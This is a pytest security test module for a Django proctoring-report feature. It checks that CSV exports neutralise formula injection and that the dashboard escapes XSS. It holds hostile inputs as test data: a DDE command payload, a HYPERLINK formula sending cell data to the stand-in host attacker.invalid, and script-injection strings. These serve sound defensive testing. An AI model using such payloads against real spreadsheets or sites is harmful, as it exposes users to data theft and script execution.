"""
CSV formula injection (OWASP "CSV Injection"): no text a learner, a provider or
an author controls may run as a formula when course staff open the report.

Every text column (the seed's ``user_email``, ``exam_name``, ``attempt_code``
and the opt-in ``username``, ``flag_comments``, ``provider``) is given a value
starting with each of OWASP's dangerous characters and their full-width forms.
The report is generated through the real pipeline (task, storage), read back
from storage, and parsed the way a spreadsheet imports a CSV (UTF-8, RFC 4180
quoting): every such cell must start with ``'`` followed by the original text,
and every harmless cell must be left exactly as it was. On PostgreSQL the same
test covers the ``COPY`` path, on SQLite the ``csv.writer`` path (CI runs both).
"""

import csv
import io

import pytest
from django.db import connection

from proctoring_results import api, storage
from proctoring_results.models import Review, ReviewFlag
from proctoring_results.statuses import AttemptStatus

from .. import pii_guard
from ..factories import ExamAttemptFactory, ProctoredExamFactory, UserFactory

pytestmark = pytest.mark.django_db

#: OWASP's leading characters, then their full-width forms (which some spreadsheets fold to ASCII).
DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]

#: Payloads after the leading character: classic DDE and HYPERLINK exfiltration.
PAYLOADS = ["cmd|' /C calc'!A0", 'HYPERLINK("http://attacker.invalid/?x="&A2,"Open")', "SUM(1+1)*2"]

EXTRA = ["username", "review_result", "flag_count", "flag_comments", "provider"]
TEXT_COLUMNS = ["user_email", "exam_name", "attempt_code", "username", "flag_comments", "provider"]

COURSE = "course-v1:InjectX+Formula+2026"


def build_course(prefix, payload):
    """One attempt whose every text column starts with ``prefix``; one harmless attempt beside it."""
    values = {
        "user_email": f"{prefix}{payload}@example.edu",
        "exam_name": f"{prefix}{payload} exam",
        "attempt_code": f"{prefix}ATTEMPT-{ord(prefix[0]):x}",
        "username": f"{prefix}user{ord(prefix[0]):x}",
        "flag_comments": f"{prefix}{payload} (reviewer's note)",
        "provider": f"{prefix}prov",
    }
    tag = f"{ord(prefix[0]):x}"
    safe = {
        "user_email": f"safe.learner.{tag}@example.edu",
        "exam_name": "Safe - midterm (a=b)",
        "attempt_code": f"SAFE-{tag}",
        "username": f"safe_learner_{tag}",
        "flag_comments": "Looked away; back at 1-2 s",
        "provider": "safe-provider",
    }
    pii_guard.register(values["flag_comments"], safe["flag_comments"])
    exam = ProctoredExamFactory(course_id=COURSE, exam_name=values["exam_name"], provider=values["provider"])
    safe_exam = ProctoredExamFactory(course_id=COURSE, exam_name=safe["exam_name"], provider=safe["provider"])
    for fields, the_exam in ((values, exam), (safe, safe_exam)):
        user = UserFactory(username=fields["username"], email=fields["user_email"])
        attempt = ExamAttemptFactory(
            exam=the_exam, user=user, attempt_code=fields["attempt_code"], status=AttemptStatus.REJECTED
        )
        review = Review.objects.create(
            attempt=attempt,
            provider=fields["provider"],
            review_id=f"r-{fields['attempt_code']}",
            provider_status="violation",
            outcome=AttemptStatus.REJECTED,
            raw_payload={},
        )
        ReviewFlag.objects.create(
            review=review, rule_code="second_computer", severity="integrity", comment=fields["flag_comments"]
        )
    return values, safe


def read_as_spreadsheet(report):
    """The stored file's rows as a spreadsheet's CSV import sees them: UTF-8, RFC 4180."""
    with storage.get_report_storage().open(report.storage_key, "rb") as handle:
        text = handle.read().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


CASES = [(prefix, payload) for prefix in DANGEROUS for payload in PAYLOADS[:1]] + [
    (prefix, payload) for prefix in ("=", "@", "\uff1d") for payload in PAYLOADS[1:]
]


@pytest.mark.parametrize(("prefix", "payload"), CASES, ids=lambda v: repr(v)[1:-1][:12])
def test_every_text_column_is_neutralised(prefix, payload, instructor):
    values, safe = build_course(prefix, payload)
    report = api.generate_report(COURSE, instructor, extra_columns=EXTRA)
    rows = {row["attempt_code"].lstrip("'"): row for row in read_as_spreadsheet(report)}
    assert len(rows) == 2, f"{connection.vendor}: {sorted(rows)}"
    dangerous_row, safe_row = rows[values["attempt_code"]], rows[safe["attempt_code"]]
    for column in TEXT_COLUMNS:
        assert dangerous_row[column] == "'" + values[column], (connection.vendor, column)
        assert safe_row[column] == safe[column], (connection.vendor, column)
    # The columns the app writes itself stay plain.
    assert dangerous_row["status"] == "rejected" and dangerous_row["flag_count"] == "1"


def test_only_the_leading_character_matters(instructor):
    """A formula character inside the text is harmless to spreadsheets and is kept as written."""
    values, safe = build_course("=", PAYLOADS[0])
    exam = ProctoredExamFactory(course_id=COURSE, exam_name=" =not a formula: leading space")
    ExamAttemptFactory(exam=exam, user=UserFactory(email="x=y@example.edu"), attempt_code="MID-=-1")
    report = api.generate_report(COURSE, instructor, extra_columns=EXTRA)
    rows = {row["attempt_code"]: row for row in read_as_spreadsheet(report)}
    assert rows["MID-=-1"]["exam_name"] == " =not a formula: leading space"
    assert rows["MID-=-1"]["user_email"] == "x=y@example.edu"


def cases_tried():
    """Cells checked by this module, for docs/security.rst (category 2): dangerous and harmless, per case."""
    csv_cells = len(CASES) * len(TEXT_COLUMNS) * 2 + 2 + len(DANGEROUS) * len(TEXT_COLUMNS) * 2
    return csv_cells + len(XSS)


def test_every_prefix_at_once_through_s3(instructor, s3_storage):
    """The same file stored in S3 (moto on loopback) and read back from the bucket: all ten prefixes at once."""
    from ..services import S3_BUCKET, S3_LOCATION

    built = [build_course(prefix, PAYLOADS[0]) for prefix in DANGEROUS]
    report = api.generate_report(COURSE, instructor, extra_columns=EXTRA)
    data = s3_storage.get_object(Bucket=S3_BUCKET, Key=f"{S3_LOCATION}/{report.storage_key}")["Body"].read()
    rows = {row["attempt_code"].lstrip("'"): row for row in csv.DictReader(io.StringIO(data.decode(), newline=""))}
    for values, safe in built:
        for column in TEXT_COLUMNS:
            assert rows[values["attempt_code"]][column] == "'" + values[column], column
            assert rows[safe["attempt_code"]][column] == safe[column], column


# ---------------------------------------------------------------- the same texts in HTML

XSS = [
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "javascript:alert(1)//<a>",
]


@pytest.mark.parametrize("payload", XSS)
def test_the_dashboard_escapes_what_it_shows(payload, instructor, client):
    """Exam names (chart, table) and the requester's name (Pending Tasks) are text, never markup."""
    from django.urls import reverse
    from django.utils.html import escape

    from ..factories import COURSE_ID

    exam = ProctoredExamFactory(course_id=COURSE_ID, exam_name=f"Final {payload}")
    ExamAttemptFactory(exam=exam, status=AttemptStatus.VERIFIED)
    requester = UserFactory(username=f"req{payload}", email="xss.requester@example.edu")
    api.request_report(COURSE_ID, requester)
    client.force_login(instructor)
    html = client.get(reverse("proctoring_results:data_download", args=[COURSE_ID])).content.decode()
    assert "Final" in html and payload not in html
    assert escape(f"Final {payload}") in html and escape(f"req{payload}") in html  # shown, as text
    for tag in ("<script>alert", "<svg onload", "<img src=x", "<a>"):
        assert tag not in html  # the text is there, escaped: "&lt;svg onload=..." is harmless
